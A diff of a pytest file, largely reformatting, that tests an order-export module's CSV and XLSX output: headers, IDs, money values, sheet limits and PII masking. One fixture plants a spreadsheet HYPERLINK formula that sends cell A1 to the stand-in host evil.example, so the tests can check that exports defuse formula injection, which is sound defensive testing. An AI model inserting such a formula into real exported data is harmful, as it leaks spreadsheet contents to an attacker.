@@ -17,12 +17,12 @@ from exports.writers import csv_chunks, headers, write_csv, write_xlsx
 from tests.factories import LineItemFactory, MembershipFactory, OrderFactory, PackageFactory, ShopFactory
 
 from .conftest import (
-    writer_query,
     as_dicts,
     csv_rows,
     export_file,
     export_to_file,
     ooxml_text,
+    writer_query,
     xlsx_book,
     xlsx_rows,
 )
@@ -73,10 +73,22 @@ def admin(shop, member_of):
 @pytest.mark.parametrize("fmt", ALL_FORMATS)
 @pytest.mark.parametrize("layout", LAYOUTS)
 def test_headers_and_values(produce, shop, admin, fmt, layout):
-    order = OrderFactory(shop=shop, id=BIG_ID, line=None, shipping_fee=Decimal("12.5"),
-                         original_shipping_fee=Decimal("12.5"), original_product_total=Decimal("75.00"))
-    LineItemFactory(order=order, product_name="Linen Shirt", sku_name="Blue, L", seller_sku="LS-BL-L", quantity=3,
-                    original_price=Decimal("25.00"))
+    order = OrderFactory(
+        shop=shop,
+        id=BIG_ID,
+        line=None,
+        shipping_fee=Decimal("12.5"),
+        original_shipping_fee=Decimal("12.5"),
+        original_product_total=Decimal("75.00"),
+    )
+    LineItemFactory(
+        order=order,
+        product_name="Linen Shirt",
+        sku_name="Blue, L",
+        seller_sku="LS-BL-L",
+        quantity=3,
+        original_price=Decimal("25.00"),
+    )
     rows = read(produce(admin, fmt, layout), fmt)
     assert rows[0] == headers(layout.columns)
     assert len(rows) == 2
@@ -92,12 +104,19 @@ def test_headers_and_values(produce, shop, admin, fmt, layout):
     if fmt is Format.XLSX:
         assert (quantity, subtotal, row["Shipping Fee After Discount"], row["Order Amount"]) == (3, 75.0, 12.5, 87.5)
     else:
-        assert (quantity, subtotal, row["Shipping Fee After Discount"], row["Order Amount"]) == \
-            ("3", "75.00", "12.50", "87.50")
+        assert (quantity, subtotal, row["Shipping Fee After Discount"], row["Order Amount"]) == (
+            "3",
+            "75.00",
+            "12.50",
+            "87.50",
+        )
 
 
-@pytest.mark.parametrize(("fmt", "start"), [(Format.CSV_EXCEL, b"\xef\xbb\xbfOrder ID,"), (Format.CSV, b"Order ID,"),
-                                            (Format.XLSX, b"PK\x03\x04")], ids=["csv_excel", "csv", "xlsx"])
+@pytest.mark.parametrize(
+    ("fmt", "start"),
+    [(Format.CSV_EXCEL, b"\xef\xbb\xbfOrder ID,"), (Format.CSV, b"Order ID,"), (Format.XLSX, b"PK\x03\x04")],
+    ids=["csv_excel", "csv", "xlsx"],
+)
 def test_byte_order_mark_only_for_csv_for_excel(produce, shop, admin, fmt, start):
     OrderFactory(shop=shop)
     data = produce(admin, fmt)
@@ -139,15 +158,27 @@ PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 def hostile_order(shop, start):
     """An order whose seller- and buyer-written text all starts with `start`."""
     text = start + PAYLOAD
-    order = OrderFactory(shop=shop, line=None, buyer_message=text, seller_note=text, cancel_reason=text,
-                         buyer_nickname=(start + "nick")[:64])
+    order = OrderFactory(
+        shop=shop,
+        line=None,
+        buyer_message=text,
+        seller_note=text,
+        cancel_reason=text,
+        buyer_nickname=(start + "nick")[:64],
+    )
     LineItemFactory(order=order, product_name=text, sku_name="", seller_sku=start + "SKU-1")
     return order
 
 
 TEXT_FIELDS = {  # header -> what the order holds there
-    Layout.LINES: {"Buyer Message": PAYLOAD, "Seller Note": PAYLOAD, "Cancel Reason": PAYLOAD,
-                   "Buyer Username": "nick", "Product Name": PAYLOAD, "Seller SKU": "SKU-1"},
+    Layout.LINES: {
+        "Buyer Message": PAYLOAD,
+        "Seller Note": PAYLOAD,
+        "Cancel Reason": PAYLOAD,
+        "Buyer Username": "nick",
+        "Product Name": PAYLOAD,
+        "Seller SKU": "SKU-1",
+    },
     Layout.ORDERS: {"Buyer Message": PAYLOAD, "Items": PAYLOAD + " x1", "Seller SKUs": "SKU-1"},
 }
 
@@ -189,8 +220,9 @@ CONTROL = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))]
 
 def one_text_column_book(tmp_path, values):
     path = tmp_path / "control.xlsx"
-    write_xlsx(str(path), [[(value, 1) for value in values]],
-               writer_query([Column("Text", "x", Kind.TEXT)], Format.XLSX))
+    write_xlsx(
+        str(path), [[(value, 1) for value in values]], writer_query([Column("Text", "x", Kind.TEXT)], Format.XLSX)
+    )
     return xlsx_book(str(path)).worksheets[0]
 
 
@@ -216,8 +248,11 @@ def test_control_characters_from_the_database_are_removed_in_xlsx(produce, shop,
 # Identifiers, money, quantities -----------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("fmt", "written"), [(Format.CSV, "{}"), (Format.CSV_EXCEL, '="{}"'), (Format.XLSX, "{}")],
-                         ids=["csv", "csv_excel", "xlsx"])
+@pytest.mark.parametrize(
+    ("fmt", "written"),
+    [(Format.CSV, "{}"), (Format.CSV_EXCEL, '="{}"'), (Format.XLSX, "{}")],
+    ids=["csv", "csv_excel", "xlsx"],
+)
 @pytest.mark.parametrize("layout", LAYOUTS)
 def test_order_package_and_sku_ids_are_exact(produce, shop, admin, fmt, written, layout):
     order = OrderFactory(shop=shop, id=BIG_ID, line=None, status="IN_TRANSIT")
@@ -227,8 +262,11 @@ def test_order_package_and_sku_ids_are_exact(produce, shop, admin, fmt, written,
     if fmt is Format.XLSX:
         [row] = cells_by_header(sheet_of(data))
         values = {name: (row[name].value, row[name].data_type) for name in ("Order ID", "Package ID", "Tracking ID")}
-        assert values == {"Order ID": (str(BIG_ID), "s"), "Package ID": (str(package.pk), "s"),
-                          "Tracking ID": ("9400111899223344556677", "s")}
+        assert values == {
+            "Order ID": (str(BIG_ID), "s"),
+            "Package ID": (str(package.pk), "s"),
+            "Tracking ID": ("9400111899223344556677", "s"),
+        }
         if layout is Layout.LINES:
             assert (row["SKU ID"].value, row["SKU ID"].data_type) == ("1731234567890123456", "s")
         return
@@ -253,8 +291,12 @@ def test_an_order_with_several_packages_lists_them_in_one_row(produce, shop, adm
 def test_csv_money_is_text_with_two_decimals(produce, shop, admin, fmt):
     OrderFactory(shop=shop, shipping_fee=Decimal("12.5"), tax=Decimal("0"), refunded_amount=Decimal("3.10"))
     [row] = as_dicts(csv_rows(produce(admin, fmt)))
-    assert (row["Shipping Fee After Discount"], row["Taxes"], row["Order Refund Amount"], row["Order Amount"]) == \
-        ("12.50", "0.00", "3.10", "62.50")
+    assert (row["Shipping Fee After Discount"], row["Taxes"], row["Order Refund Amount"], row["Order Amount"]) == (
+        "12.50",
+        "0.00",
+        "3.10",
+        "62.50",
+    )
 
 
 def test_xlsx_money_is_numeric_in_the_row_currency_and_quantities_are_integers(produce, db, member_of):
@@ -294,24 +336,33 @@ def test_xlsx_header_is_frozen_and_filterable(produce, shop, admin, rows):
 
 # Past Excel's rows per sheet (write_xlsx directly, with a small limit) -----------------------------------
 
-SMALL = [Column("Order ID", "o.id", Kind.ID), Column("Order Amount", "o.total", Kind.MONEY),
-         Column("Quantity", "l.quantity", Kind.INT), Column("Currency", "o.currency", Kind.LABEL)]
+SMALL = [
+    Column("Order ID", "o.id", Kind.ID),
+    Column("Order Amount", "o.total", Kind.MONEY),
+    Column("Quantity", "l.quantity", Kind.INT),
+    Column("Currency", "o.currency", Kind.LABEL),
+]
 
 
 def numbered(count, fmt=Format.XLSX):
     """Batches of CHUNK rows as the SELECT returns them for SMALL: for XLSX one value per column, for
     CSV the id as its finished field, the money, then quantity and currency as one finished string."""
-    rows = [(str(BIG_ID + n), n + 0.5, n, "USD", 1) if fmt is Format.XLSX
-            else (f'"{BIG_ID + n}"', n + 0.5, f'{n},"USD"', 1) for n in range(count)]
-    return [rows[start:start + reading.CHUNK] for start in range(0, count, reading.CHUNK)]
+    rows = [
+        (str(BIG_ID + n), n + 0.5, n, "USD", 1) if fmt is Format.XLSX else (f'"{BIG_ID + n}"', n + 0.5, f'{n},"USD"', 1)
+        for n in range(count)
+    ]
+    return [rows[start : start + reading.CHUNK] for start in range(0, count, reading.CHUNK)]
 
 
-@pytest.mark.parametrize(("count", "per_sheet"), [
-    (4, [4]),  # header + 4 rows = 5: one full sheet
-    (5, [4, 1]),
-    (6, [4, 2]),
-    (9, [4, 4, 1]),
-])
+@pytest.mark.parametrize(
+    ("count", "per_sheet"),
+    [
+        (4, [4]),  # header + 4 rows = 5: one full sheet
+        (5, [4, 1]),
+        (6, [4, 2]),
+        (9, [4, 4, 1]),
+    ],
+)
 def test_rows_past_the_sheet_limit_continue_on_a_further_sheet(tmp_path, monkeypatch, count, per_sheet):
     monkeypatch.setattr(writers, "EXCEL_MAX_ROWS", 5)  # rows per sheet, header included
     path = tmp_path / "many.xlsx"
@@ -342,8 +393,7 @@ def test_progress_is_reported_per_chunk_with_the_rows_done(tmp_path, monkeypatch
     seen = []
     path = tmp_path / f"progress.{fmt}"
     if fmt == "csv":
-        write_csv(str(path), numbered(5, Format.CSV), writer_query(SMALL, Format.CSV), bom=False,
-                  progress=seen.append)
+        write_csv(str(path), numbered(5, Format.CSV), writer_query(SMALL, Format.CSV), bom=False, progress=seen.append)
         assert len(csv_rows(path.read_bytes())) == 6
     else:
         write_xlsx(str(path), numbered(5), writer_query(SMALL, Format.XLSX), progress=seen.append)
@@ -362,15 +412,22 @@ def test_csv_chunks_stream_the_header_first_then_batches(monkeypatch):
 def test_names_emails_and_phones_are_masked_in_python_but_hidden_values_stay(tmp_path, fmt):
     from exports.columns import Pii
 
-    columns = [Column("Name", "a", Kind.TEXT, pii=Pii.NAME), Column("Email", "b", Kind.TEXT, pii=Pii.EMAIL),
-               Column("Phone", "c", Kind.TEXT, pii=Pii.PHONE), Column("Note", "d", Kind.TEXT)]
+    columns = [
+        Column("Name", "a", Kind.TEXT, pii=Pii.NAME),
+        Column("Email", "b", Kind.TEXT, pii=Pii.EMAIL),
+        Column("Phone", "c", Kind.TEXT, pii=Pii.PHONE),
+        Column("Note", "d", Kind.TEXT),
+    ]
     query = writer_query(columns, fmt, masked=True)
     note = '"Jane Doe"' if fmt is Format.CSV else "Jane Doe"  # finished by the database
-    rows = [("Jane Doe", "jane.doe@example.com", "+1 213 555 0188", note, 1),
-            ("***", "", "***", '"x"' if fmt is Format.CSV else "x", 1)]
+    rows = [
+        ("Jane Doe", "jane.doe@example.com", "+1 213 555 0188", note, 1),
+        ("***", "", "***", '"x"' if fmt is Format.CSV else "x", 1),
+    ]
     path = tmp_path / f"masked.{fmt.extension}"
     write_export(str(path), [rows], query, fmt)
     read = xlsx_rows(str(path)) if fmt is Format.XLSX else csv_rows(path.read_bytes())
     assert [[value or "" for value in row] for row in read[1:]] == [
-        ["J*** D***", "j***e@e***.com", "(+1)213*****88", "Jane Doe"], ["***", "", "***", "x"]]
-
+        ["J*** D***", "j***e@e***.com", "(+1)213*****88", "Jane Doe"],
+        ["***", "", "***", "x"],
+    ]
